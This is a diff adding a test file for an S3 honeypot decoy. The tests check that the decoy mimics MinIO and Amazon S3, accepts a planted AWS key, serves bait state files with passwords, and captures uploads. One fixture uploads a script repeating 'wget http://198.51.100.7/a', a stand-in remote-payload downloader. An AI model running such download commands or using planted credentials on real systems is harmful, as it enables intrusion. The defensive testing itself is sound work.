@@ -1,0 +1,210 @@
+import { execFile } from 'node:child_process';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { needTools } from '../../../test/support/need.ts';
+import { serveDecoy } from '../../../test/support/serve-decoy.ts';
+import { holdsForAnyBytes, octetsOf, personaWith, talk } from '../../../test/support/talk.ts';
+import type { Persona } from '../../core/persona.ts';
+import { plantedAwsKey } from '../../wire/planted-credential.ts';
+import { s3 } from './s3.ts';
+
+const details = {
+  region: 'us-east-1',
+  buckets: 'pine-assets,pine-backups,pine-state,pine-uploads',
+  accessKey: 'minioadmin',
+  secretKey: 'minioadmin',
+};
+const minio = (): Persona => personaWith({ s3: { product: 'MinIO', version: '', details } });
+const aws = (): Persona =>
+  personaWith({ s3: { product: 'Amazon S3', version: '', details: { ...details, region: 'eu-west-1' } } });
+
+const get = (path: string, host = 'a', method = 'GET'): string =>
+  `${method} ${path} HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
+
+function run(program: string, ...words: string[]): Promise<string> {
+  return new Promise((resolve) => {
+    execFile(program, words, { timeout: 30_000 }, (_error, stdout, stderr) => resolve(stdout + stderr));
+  });
+}
+
+describe('the s3 decoy before s3cmd', () => {
+  for (const signature of ['v4', 'v2'] as const) {
+    needTools(['s3cmd'])(`takes requests that are signed with a planted key (${signature})`, async () => {
+      const folder = mkdtempSync(join(tmpdir(), 'picket-s3-'));
+      const persona = minio();
+      await using served = await serveDecoy(s3, persona);
+      const key = plantedAwsKey(persona, 'instance metadata', '127.0.0.1');
+      const place = `127.0.0.1:${served.port}`;
+      const s3cmd = (...words: string[]): Promise<string> =>
+        run(
+          's3cmd',
+          '-c',
+          '/dev/null',
+          '--no-ssl',
+          `--host=${place}`,
+          `--host-bucket=${place}`,
+          `--access_key=${key.accessKeyId}`,
+          `--secret_key=${key.secretAccessKey}`,
+          ...(signature === 'v2' ? ['--signature-v2'] : []),
+          ...words,
+        );
+      try {
+        expect(await s3cmd('ls')).toContain('s3://pine-state');
+        expect(await s3cmd('ls', '-r', 's3://pine-state')).toContain(
+          's3://pine-state/prod/terraform.tfstate',
+        );
+        await s3cmd('get', 's3://pine-state/prod/terraform.tfstate', join(folder, 'state'));
+        expect(readFileSync(join(folder, 'state'), 'utf8')).toContain('"db_password"');
+        writeFileSync(join(folder, 'up'), `#!/bin/sh\n${'wget http://198.51.100.7/a\n'.repeat(10)}`);
+        expect(await s3cmd('put', join(folder, 'up'), 's3://pine-backups/an up&load')).toContain('upload:');
+        expect(await s3cmd('info', 's3://pine-backups/an up&load')).toContain('MD5 sum');
+        expect(await s3cmd('del', 's3://pine-backups/an up&load')).toContain('delete:');
+        expect(await s3cmd('mb', 's3://mine-now')).toContain("Bucket 's3://mine-now/' created");
+        expect(await s3cmd('rb', 's3://mine-now')).toContain('removed');
+      } finally {
+        rmSync(folder, { recursive: true });
+      }
+      const operations = served.facts.flatMap((fact) =>
+        fact.kind === 'object-access' ? [`${fact.operation} ${fact.status}`] : [],
+      );
+      expect(operations).toEqual(
+        expect.arrayContaining([
+          'ListBuckets 200',
+          'GetObject 200',
+          'PutObject 200',
+          'DeleteObject 204',
+          'CreateBucket 200',
+        ]),
+      );
+      expect(served.facts.some((fact) => fact.kind === 'auth' && !fact.accepted)).toBe(false);
+      expect(served.facts).toContainEqual(
+        expect.objectContaining({
+          kind: 'exploit',
+          name: 'planted-credential',
+          detail: 'AWS access key planted in instance metadata for 127.0.0.1',
+        }),
+      );
+      expect(served.captures[0]?.how).toBe('s3-put');
+      expect(served.errors).toEqual([]);
+    });
+  }
+
+  needTools(['s3cmd'])('refuses a wrong secret and an unknown key in the words of the store', async () => {
+    const persona = aws();
+    await using served = await serveDecoy(s3, persona);
+    const place = `127.0.0.1:${served.port}`;
+    const ls = (id: string): Promise<string> =>
+      run(
+        's3cmd',
+        '-c',
+        '/dev/null',
+        '--no-ssl',
+        `--host=${place}`,
+        `--host-bucket=${place}`,
+        `--access_key=${id}`,
+        '--secret_key=wrong',
+        'ls',
+      );
+    expect(await ls(plantedAwsKey(persona, 'a web file', '192.0.2.1').accessKeyId)).toContain(
+      'SignatureDoesNotMatch',
+    );
+    expect(await ls('AKIAIOSFODNN7EXAMPLE')).toContain(
+      'The AWS Access Key Id you provided does not exist in our records.',
+    );
+    expect(served.facts.filter((fact) => fact.kind === 'auth').map((fact) => fact.accepted)).not.toContain(
+      true,
+    );
+  });
+});
+
+describe('the s3 decoy', () => {
+  it('answers an anonymous caller as its store does', () => {
+    const { text } = talk(s3, minio(), [
+      octetsOf(
+        get('/') +
+          get('/none') +
+          get('/pine-backups/none') +
+          get('/pine-state') +
+          get('/pine-backups?list-type=2&prefix=config/'),
+      ),
+    ]);
+    expect(text).toContain(
+      '<Error><Code>AccessDenied</Code><Message>Access Denied.</Message><Resource>/</Resource><RequestId>',
+    );
+    expect(text).toContain(
+      '<Error><Code>NoSuchBucket</Code><Message>The specified bucket does not exist</Message><BucketName>none</BucketName><Resource>/none</Resource>',
+    );
+    expect(text).toContain(
+      '<Code>NoSuchKey</Code><Message>The specified key does not exist.</Message><Key>none</Key><BucketName>pine-backups</BucketName>',
+    );
+    expect(text).toContain('<Key>config/.env.production</Key>');
+    expect(text).toContain('Server: MinIO\r\n');
+  });
+
+  it('knows a bucket by its host, and lists folder by folder', () => {
+    const host = 'pine-assets.s3.eu-west-1.amazonaws.com';
+    const { text, facts } = talk(s3, aws(), [
+      octetsOf(
+        get('/?delimiter=/', host) + get('/robots.txt', host) + get('/', 'pine-state.s3.amazonaws.com'),
+      ),
+    ]);
+    expect(text).toContain(
+      '<CommonPrefixes><Prefix>css/</Prefix></CommonPrefixes><CommonPrefixes><Prefix>js/</Prefix></CommonPrefixes>',
+    );
+    expect(text).toContain('User-agent: *\nDisallow: /\n');
+    expect(text).toContain('<Code>AccessDenied</Code><Message>Access Denied</Message><RequestId>');
+    expect(facts.filter((fact) => fact.kind === 'object-access')).toMatchObject([
+      { operation: 'ListObjects', bucket: 'pine-assets', status: 200, principal: '' },
+      { operation: 'GetObject', object: 'robots.txt', status: 200 },
+      { operation: 'ListObjects', bucket: 'pine-state', status: 403 },
+    ]);
+  });
+
+  it('takes what anybody puts into the open bucket, in parts and in signed chunks too', () => {
+    const persona = minio();
+    const put = (path: string, body: string, more = '', method = 'PUT'): string =>
+      `${method} ${path} HTTP/1.1\r\nHost: a\r\n${more}Content-Length: ${body.length}\r\n\r\n${body}`;
+    const first = talk(s3, persona, [
+      octetsOf(
+        put('/pine-uploads/x.sh', '3\r\nabc\r\n0\r\n\r\n', 'Content-Encoding: aws-chunked\r\n') +
+          get('/pine-uploads/x.sh') +
+          put('/pine-uploads/y?uploads', '', '', 'POST'),
+      ),
+    ]);
+    expect(first.outputs).toContainEqual({
+      do: 'capture',
+      bytes: octetsOf('abc'),
+      how: 's3-put',
+      name: 'x.sh',
+    });
+    const id = /<UploadId>([\w-]+)</.exec(first.text)?.[1] ?? '';
+    const rest = `<CompleteMultipartUpload><Part><PartNumber>1</PartNumber></Part><Part><PartNumber>2</PartNumber></Part></CompleteMultipartUpload>`;
+    const { text } = talk(s3, persona, [
+      octetsOf(
+        put(`/pine-uploads/y?partNumber=1&uploadId=${id}`, 'one') +
+          put(`/pine-uploads/y?partNumber=2&uploadId=${id}`, 'two') +
+          put(`/pine-uploads/y?uploadId=${id}`, rest, '', 'POST') +
+          get('/pine-uploads/y'),
+      ),
+    ]);
+    expect(text).toContain('<CompleteMultipartUploadResult');
+    expect(text.endsWith('onetwo')).toBe(true);
+  });
+
+  it('gives the same for any split of any bytes', () => {
+    holdsForAnyBytes(s3, minio, [
+      octetsOf(get('/')),
+      octetsOf(get('/pine-backups?list-type=2&max-keys=1')),
+      octetsOf(get('/pine-assets/css/main.css')),
+      octetsOf('PUT /pine-uploads/a HTTP/1.1\r\nHost: a\r\nContent-Length: 4\r\n\r\nabcd'),
+      octetsOf(
+        'GET /pine-state HTTP/1.1\r\nHost: a\r\nAuthorization: AWS4-HMAC-SHA256 Credential=minioadmin/20260101/us-east-1/s3/aws4_request, SignedHeaders=host, Signature=00\r\n\r\n',
+      ),
+      octetsOf(
+        'POST /pine-uploads?delete HTTP/1.1\r\nHost: a\r\nContent-Length: 20\r\n\r\n<Delete><Key>a</Key>',
+      ),
+    ]);
+  });
+});
